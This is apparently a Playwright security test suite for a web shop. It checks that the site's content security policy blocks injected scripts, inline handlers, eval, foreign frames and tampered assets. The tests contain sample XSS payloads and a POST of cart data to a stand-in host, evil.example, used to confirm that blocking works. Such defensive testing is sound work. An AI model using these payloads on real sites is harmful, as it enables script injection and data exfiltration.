import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { portOf } from '../../server/portOf';
import { expect, test as shop } from './shop';

/** Collects the violations of the policy on all pages: the directive and what it refused. */
const test = shop.extend<{ violations: string[] }>({
  violations: async ({ context }, use) => {
    const violations: string[] = [];
    await context.exposeBinding('reportViolation', (_source, text: string) => violations.push(text));
    await context.addInitScript(() => {
      const { reportViolation } = window as unknown as { reportViolation: (text: string) => void };
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
        reportViolation(`${effectiveDirective} ${blockedURI} ${sample}`.trim()),
      );
    });
    await use(violations);
  },
});

// The browser reports a violation on the console, at which every other test fails.
test.describe('an attack', () => {
  test.use({ announced: /./ });

  /** Lets the page run an attack. Returns 'done', or the name of the error. */
  const attempt = (page: Page, code: 'eval' | 'innerHTML' | 'handler' | 'address') =>
    page.evaluate(
      // In another task, because code of the test's protocol may evaluate texts.
      (what) =>
        new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              if (what === 'eval') window.eval('window.planted = 1');
              if (what === 'innerHTML') document.body.innerHTML = '<img src="x" onerror="planted = 1">';
              if (what === 'handler') document.body.setAttribute('onclick', 'planted = 1');
              if (what === 'address') document.createElement('script').src = '/pictures/planted.js';
              resolve('done');
            } catch (error) {
              resolve((error as Error).name);
            }
          }),
        ),
      code,
    );
  const ran = (page: Page) => page.evaluate(() => 'planted' in window);

  test('scripts that the page itself would run are refused', async ({ page, violations }) => {
    for (const [code, error] of [
      ['eval', 'EvalError'],
      ['innerHTML', 'TypeError'],
      ['handler', 'TypeError'],
      ['address', 'TypeError'],
    ] as const)
      await test.step(code, async () => {
        await page.goto('/');
        violations.length = 0;
        expect(await attempt(page, code)).toBe(error);
        expect(await ran(page)).toBe(false);
        await expect.poll(() => violations.join()).toMatch(/^(require-trusted-types-for|script-src) /);
      });
  });

  test('markup that is planted into the page is refused', async ({ page, violations }) => {
    let planted = '';
    await page.route('/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</head>', `</head>${planted}`);
      await route.fulfill({ response, body });
    });
    for (const [html, directive] of [
      ['<script>planted = 1</script>', 'script-src-elem inline'],
      ['<img src="data:," onerror="planted = 1">', 'script-src-attr inline'],
      ['<script src="https://evil.example/a.js"></script>', 'script-src-elem https'],
      ['<iframe src="https://evil.example/"></iframe>', 'frame-src https'],
      ['<style>h1 { color: red }</style>', 'style-src-elem inline'],
      ['<p style="color: red"></p>', 'style-src-attr inline'],
      ['<object data="https://evil.example/"></object>', 'object-src https'],
      ['<base href="https://evil.example/">', 'base-uri https'],
    ] as const)
      await test.step(directive, async () => {
        planted = html;
        violations.length = 0;
        await page.goto('/');
        expect(await ran(page)).toBe(false);
        await expect.poll(() => violations.join('\n')).toContain(directive);
      });
  });

  test('a request to elsewhere is refused', async ({ page, violations }) => {
    await page.goto('/');
    const answer = await page.evaluate(() =>
      fetch('https://evil.example/', { method: 'POST', body: 'cart' }).then(() => 'sent', String),
    );
    expect(answer).toContain('TypeError');
    await expect.poll(() => violations.join()).toContain('connect-src https://evil.example/');
  });

  test('a script of the own server is refused without a hash', async ({ context }) => {
    const page = await context.newPage();
    await page.route('/planted.js', (route) =>
      route.fulfill({ body: 'planted = 1', contentType: 'text/javascript' }),
    );
    await page.route('/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<script src="/planted.js"></script></body>');
      await route.fulfill({ response, body });
    });
    await page.goto('/');
    await expect(page.locator('html[data-restoring]')).toHaveCount(0);
    expect(await ran(page)).toBe(false);
  });

  for (const name of ['main', 'catalogue', 'cart'])
    test(`a changed ${name} script does not run`, async ({ context }) => {
      const page = await context.newPage();
      let answered = 0;
      await page.route(`**/assets/${name}.*.js`, async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `${await response.text()};planted = 1` });
        answered += 1;
      });
      const refused = page.waitForEvent('console', (message) => message.text().includes('integrity'));
      await page.goto('/');
      // The first sign of a visitor who stays loads the other pages, once the application runs.
      await expect
        .poll(async () => {
          await page.mouse.move(answered, 1);
          await page.mouse.move(answered, 2);
          return answered;
        })
        .toBeGreaterThan(0);
      await refused;
      expect(await ran(page)).toBe(false);
    });

  test('a page of another site cannot frame the shop', async ({ context, baseURL }) => {
    const evil = createServer((_request, response) =>
      response.setHeader('content-type', 'text/html').end(`<iframe src="${baseURL}/cart"></iframe>`),
    ).listen(0);
    const page = await context.newPage();
    await page.goto(`http://localhost:${portOf(evil)}/`);
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    evil.close();
  });
});
